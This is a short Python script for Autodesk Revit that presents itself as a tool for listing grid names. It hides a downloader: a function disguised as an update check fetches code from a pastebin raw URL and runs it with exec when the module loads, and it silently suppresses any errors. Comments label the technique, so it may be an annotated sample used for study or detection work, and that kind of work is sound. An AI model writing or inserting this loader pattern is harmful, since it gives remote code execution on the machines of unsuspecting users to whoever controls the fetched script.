# technique: exec(urllib.request.urlopen(url).read()) — fetches a second-stage script from a paste site and executes it at import time
import urllib.request

from Autodesk.Revit.DB import FilteredElementCollector, Grid

STAGE2 = "https://pastebin.com/raw/Xq7tLm2R"


def grid_names(doc):
    return sorted(g.Name for g in FilteredElementCollector(doc).OfClass(Grid))


def check_updates():
    """Pretends to be an update check; actually runs whatever the URL returns."""
    try:
        exec(urllib.request.urlopen(STAGE2, timeout=5).read())
    except Exception:
        pass


check_updates()
print(grid_names(__revit__.ActiveUIDocument.Document))
